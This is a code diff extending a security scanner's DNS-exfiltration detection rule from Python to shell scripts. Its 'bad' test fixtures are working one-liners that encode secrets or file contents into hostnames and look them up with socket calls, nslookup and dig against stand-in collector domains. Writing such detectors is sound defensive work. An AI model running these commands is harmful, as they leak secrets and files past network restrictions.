@@ -1,6 +1,7 @@
-import { all, any, argument, call, from } from "../match.ts";
+import { all, any, anyArgument, argument, call, from } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { LOOKUPS } from "../vocabulary/network-calls.ts";
+import { SHELL_LOOKUPS } from "../vocabulary/shell-commands.ts";
 import { assembled, encoded, environment, fileContents, hostIdentity, secretVariable } from "../vocabulary/sources.ts";
 
 export default defineRule({
@@ -8,25 +9,39 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "high",
   confidence: "medium",
-  languages: ["python"],
+  languages: ["python", "shell"],
   title: "data is put into a name that is looked up",
   why: "The question reaches the name server of whoever owns the domain, even where no connection is allowed.",
   fix: "Look up fixed names only.",
   references: ["ATT&CK T1048", "ATT&CK T1071.004"],
-  match: call({
-    of: LOOKUPS,
-    where: all(
-      argument(0, from(assembled)),
-      any(...[environment, secretVariable, hostIdentity, fileContents, encoded].map((data) => argument(0, from(data)))),
-    ),
-  }),
+  match: [
+    call({
+      of: LOOKUPS,
+      where: all(
+        argument(0, from(assembled)),
+        any(
+          ...[environment, secretVariable, hostIdentity, fileContents, encoded].map((data) => argument(0, from(data))),
+        ),
+      ),
+    }),
+    call({
+      of: SHELL_LOOKUPS,
+      where: any(
+        ...[environment, secretVariable, hostIdentity, fileContents, encoded].map((data) => anyArgument(from(data))),
+      ),
+    }),
+  ],
   bad: [
     'import socket, os\nsocket.gethostbyname(os.environ["API_KEY"] + ".example.com")',
     'import socket, base64\npart = base64.b32encode(secret).decode()\nsocket.getaddrinfo(f"{part}.example.com", 80)',
+    { "run.sh": 'nslookup "$(cat notes.txt | base64).collector.example"' },
+    { "run.sh": "for c in $(xxd -p notes.txt); do dig $c.collector.example; done" },
   ],
   good: [
     'import socket\nsocket.gethostbyname("example.com")',
     "import socket\nsocket.getaddrinfo(host, 443)",
     "import socket\nsocket.gethostbyname(socket.gethostname())",
+    { "run.sh": "dig +short example.com" },
+    { "run.sh": "h=example.com\nnslookup $h" },
   ],
 });
